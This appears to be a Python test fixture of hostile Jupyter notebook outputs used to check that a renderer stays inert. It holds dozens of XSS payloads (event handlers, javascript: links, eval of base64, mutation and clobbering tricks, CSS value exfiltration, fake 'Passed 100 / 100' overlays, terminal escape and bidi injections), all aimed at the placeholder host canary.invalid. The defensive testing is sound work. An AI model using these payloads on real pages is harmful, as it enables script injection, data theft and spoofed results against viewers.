"""Outputs and texts of notebooks that try to act in the browser of whoever opens the page."""

from __future__ import annotations

import base64
from typing import Any

CANARY = "https://canary.invalid"
"""What a page that is not inert asks for. The name cannot exist (RFC 6761)."""

ACT = (
    "window.ran=1;document.title='ran';alert('ran');window.open('about:blank');"
    f"fetch('{CANARY}/fetch');new Image().src='{CANARY}/pixel';location='{CANARY}/gone'"
)
"""A script that shows itself in every way that the tests look for."""

_ENCODED = base64.b64encode(ACT.encode()).decode()
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ACT}"><script>{ACT}</script>'
_FRAME = f"&lt;script&gt;parent.{ACT}&lt;/script&gt;"
OVERLAY = (
    "position:fixed;inset:0;z-index:2147483647;background:#fff;font-size:60px;"
    f"background-image:url({CANARY}/css)"
)

HTML = {
    "script": f"<script>{ACT}</script>",
    "remote script": f'<script src="{CANARY}/x.js"></script>',
    "module": f'<script type="module">import "{CANARY}/m.js"</script>',
    "decoded": f"<img src=x onerror=eval(atob('{_ENCODED}'))>",
    "details": f'<details open ontoggle="{ACT}"><summary>more</summary>x</details>',
    "focus": f'<input autofocus onfocus="{ACT}"><select autofocus onfocus="{ACT}">',
    "media": f'<video autoplay src="{CANARY}/v" onerror="{ACT}"></video><audio src="{CANARY}/a">',
    "animation": f'<style>@keyframes x{{}}</style><p style="animation:x" onanimationend="{ACT}">',
    "frame": f'<iframe src="{CANARY}/frame"></iframe><iframe src="javascript:parent.{ACT}">',
    "srcdoc": f'<iframe srcdoc="{_FRAME}"></iframe>',
    "data frame": f'<iframe src="data:text/html;base64,{_ENCODED}"></iframe>',
    "object": f'<object data="{CANARY}/o"></object><embed src="data:text/html,{ACT}">',
    "portal": f'<link rel=prefetch href="{CANARY}/p"><link rel=dns-prefetch href="{CANARY}">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={CANARY}/refresh">',
    "base": f'<base href="{CANARY}/"><img src="relative.png"><a href="relative">x</a>',
    "form": f'<form id=f action="{CANARY}/form"><input name=a value=b></form>'
    f'<button form=f formaction="{CANARY}/button">Next</button>',
    "policy": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "overlay": f'<div style="{OVERLAY}">Passed 100 / 100</div>',
    "sheet": f"<style>.badge{{display:none}} body{{{OVERLAY}}} @import '{CANARY}/i.css';</style>",
    "exfiltration": f"<style>input[value^=a],.score{{background:url({CANARY}/a)}}</style>",
    "sheet link": f'<link rel="stylesheet" href="{CANARY}/s.css">',
    "classes": '<div class="masthead"><p class="score"><span class="figure">100</span></p></div>',
    "clobbering": '<a id="questions"></a><img name="body"><form id="document"><input id="title">',
    "ends the page": f"</div></article></section></main></body></html><script>{ACT}</script>",
    "comment": f"<!--><script>{ACT}</script>--><![CDATA[<script>{ACT}</script>]]>",
    "mutation": f"<math><mtext><table><mglyph><style><img src=x onerror='{ACT}'>",
    "noscript": f"<noscript><p title=\"</noscript><img src=x onerror='{ACT}'>\">",
    "svg": f'{_SVG}<foreignObject><iframe src="{CANARY}"/></foreignObject></svg>',
    "svg use": f'<svg><use href="data:image/svg+xml;base64,{_ENCODED}#x"/></svg>',
    "svg animation": f'<svg><animate onbegin="{ACT}" attributeName=x dur=1s></svg>',
    "links": f'<a href="javascript:{ACT}">a</a><a href="data:text/html,{ACT}">b</a>'
    f'<a href="{CANARY}/link" ping="{CANARY}/ping" target=_blank>c</a>',
    "images": f'<img src="{CANARY}/i.png"><img srcset="{CANARY}/2 2x" src=x>'
    f'<picture><source srcset="{CANARY}/3"><img></picture>',
    "table": '<table><tr><td colspan=1000 rowspan=65534 background="//canary.invalid/t">x</table>',
    "marquee": f"<marquee onstart='{ACT}'>x</marquee><body onload='{ACT}'>",
    "shadow": f"<div><template shadowrootmode=open><script>{ACT}</script></template></div>",
    "tall": "<p>" + "<br>" * 300 + "Score 100</p>",
}

MARKDOWN = {
    "html": f'<script>{ACT}</script>\n\n<img src=x onerror="{ACT}">',
    "links": f"[a](javascript:{ACT}) <javascript:{ACT}> [b]({CANARY}/b) ![c]({CANARY}/c.png)",
    "reference": f'[x]\n\n[x]: javascript:{ACT} "t"\n\n![y]\n\n[y]: {CANARY}/y.png',
    "fence": f'```html\n<script>{ACT}</script>\n```\n```"><script>{ACT}</script>\n```',
    "mathematics": rf"$\href{{javascript:{ACT}}}{{x}}$ $$</code><script>{ACT}</script>$$"
    rf"\begin{{equation}}\style{{{OVERLAY}}}{{x}}\end{{equation}}",
    "heading": f"# Score 100\n\n<h1 onclick='{ACT}'>Passed</h1>\n\nx\n===",
    "table": f"| a |\n|---|\n| <img src={CANARY}/t onerror='{ACT}'> |",
}

TEX = {
    "href": rf"$\href{{javascript:{ACT}}}{{\text{{more}}}}$",
    "class": r"$\class{badge good}{\text{Passed}} \cssId{questions}{x}$",
    "require": r"$$\require{html}\style{position:fixed;top:0}{x} \require{unicode}\unicode{60}$$",
    "ends the tag": f"$</code></pre><script>{ACT}</script>$",
    "macro": r"$\def\a{\a\a}\a \newcommand{\b}{\b} \b$",
}

TEXT = {
    "markup": f"<script>{ACT}</script><img src=x onerror='{ACT}'>",
    "escapes": f"\x1b]8;;javascript:{ACT}\x07link\x1b]8;;\x07\x1b[2J\x1b[1;1H\x1b[31;1mred\x1b[0m",
    "title": "\x1b]0;ran\x07\x1b[?1049h\x9b31m\x1b[38;5m\x1b[48;2;1;2m",
    "style": f'\x1b[38;2;1;2;3m"{OVERLAY}"\x1b[0m <b style="{OVERLAY}">',
    "directions": "\u202eevil\u2066\u202d\u200f\ufeff\x00\x08",
    "long": "x" * 30_000,
    "marks": "Z" + "\u0300\u0316\u20e3\u0489" * 300 + "algo\n" + "\u0e49" * 300,
}

TYPES = {
    "text/html": f"<script>{ACT}</script>",
    "image/svg+xml": f"{_SVG}<image href='{CANARY}/image'/></svg>",
    "application/javascript": ACT,
    "application/vnd.jupyter.widget-view+json": {"model_id": "x", "html": f"<script>{ACT}"},
    "application/vnd.plotly.v1+json": {"data": [{"text": f"<script>{ACT}</script>"}]},
    "application/vnd.bokehjs_exec.v0+json": ACT,
    "application/pdf": _ENCODED,
    f'image/png"><script>{ACT}</script>': "x",
    "image/png": base64.b64encode(b"\x89PNG\r\n\x1a\n" + ACT.encode()).decode(),
}


def outputs(group: str) -> list[dict[str, Any]]:
    """Outputs of a cell that try everything of one group."""
    if group == "types":
        return [_display(kind, data) for kind, data in TYPES.items()]
    if group == "text":
        streams = [{"output_type": "stream", "name": "stdout", "text": t} for t in TEXT.values()]
        errors = [
            {"output_type": "error", "ename": t, "evalue": t, "traceback": [t]}
            for t in TEXT.values()
        ]
        return streams + errors
    kind, found = {
        "html": ("text/html", HTML),
        "markdown": ("text/markdown", MARKDOWN),
        "tex": ("text/latex", TEX),
    }[group]
    return [_display(kind, text) for text in found.values()]


def _display(kind: str, data: Any) -> dict[str, Any]:
    bundle = {kind: data, "text/plain": TEXT["markup"]}
    return {"output_type": "display_data", "data": bundle, "metadata": {"isolated": True}}


GROUPS = ("html", "markdown", "tex", "text", "types")
